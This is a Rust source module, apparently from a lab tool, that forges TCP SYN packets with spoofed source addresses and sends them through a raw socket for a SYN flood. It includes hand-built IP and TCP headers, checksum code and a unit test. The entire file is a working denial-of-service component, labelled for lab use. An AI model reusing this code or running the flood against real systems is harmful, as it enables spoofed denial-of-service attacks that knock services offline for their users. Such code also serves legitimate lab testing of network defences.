//! Forged TCP SYNs for the SYN flood, over a raw socket of a lab host. It builds nothing but SYNs and sends to nobody but
//! the address it is given.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};

use socket2::{Domain, Protocol, Socket, Type};

const IP_LEN: usize = 20;
const TCP_LEN: usize = 20;
const PROTO_TCP: u8 = 6;
const FLAG_SYN: u8 = 0x02;

/// A raw socket that sends whole IPv4 packets.
#[derive(Debug)]
pub(super) struct SynGun {
    socket: Socket,
    to: SocketAddrV4,
}

impl SynGun {
    /// Opens the socket in the calling thread's namespace.
    pub(super) fn open(to: SocketAddrV4) -> io::Result<SynGun> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
        socket.set_header_included_v4(true)?;
        Ok(SynGun { socket, to })
    }

    /// Sends one SYN that claims to come from `from`.
    pub(super) fn fire(&self, from: SocketAddrV4) -> io::Result<()> {
        self.socket.send_to(&syn(from, self.to), &self.to.into()).map(|_| ())
    }
}

/// An IPv4 packet with a SYN; the kernel fills in the IP header's length, identification and checksum (raw(7)).
fn syn(from: SocketAddrV4, to: SocketAddrV4) -> Vec<u8> {
    let mut packet = Vec::with_capacity(IP_LEN + TCP_LEN);
    packet.extend([0x45, 0, 0, 0, 0, 0, 0, 0, 64, PROTO_TCP, 0, 0]);
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    let segment = segment(from, to);
    packet.extend(segment);
    packet
}

fn segment(from: SocketAddrV4, to: SocketAddrV4) -> [u8; TCP_LEN] {
    let [sport_hi, sport_lo] = from.port().to_be_bytes();
    let [dport_hi, dport_lo] = to.port().to_be_bytes();
    let sequence = u32::from(from.port()).wrapping_mul(2_654_435_761).to_be_bytes();
    let mut segment = [0; TCP_LEN];
    segment[..8].copy_from_slice(&[sport_hi, sport_lo, dport_hi, dport_lo, sequence[0], sequence[1], sequence[2], sequence[3]]);
    segment[12..16].copy_from_slice(&[5 << 4, FLAG_SYN, 0xff, 0xff]);
    let sum = checksum(*from.ip(), *to.ip(), &segment);
    segment[16..18].copy_from_slice(&sum.to_be_bytes());
    segment
}

/// The TCP checksum with its pseudo header (RFC 9293 section 3.1).
fn checksum(from: Ipv4Addr, to: Ipv4Addr, segment: &[u8; TCP_LEN]) -> u16 {
    let length = [0, PROTO_TCP, 0, TCP_LEN as u8];
    let bytes = from.octets().into_iter().chain(to.octets()).chain(length).chain(segment.iter().copied());
    let (mut sum, mut high) = (0_u32, None);
    for byte in bytes {
        match high.take() {
            None => high = Some(byte),
            Some(high) => sum += u32::from(u16::from_be_bytes([high, byte])),
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_syn_carries_a_checksum_that_sums_to_zero() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 18, 3, 4), 5555);
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 20), 443);
        let packet = syn(from, to);
        assert_eq!(packet.len(), 40);
        let segment: [u8; TCP_LEN] = packet[20..].try_into().unwrap();
        // With the checksum in place the complement of the sum is zero.
        assert_eq!(checksum(*from.ip(), *to.ip(), &segment), 0);
        assert_eq!(segment[13], FLAG_SYN);
        assert_eq!(u16::from_be_bytes([segment[2], segment[3]]), 443);
    }
}
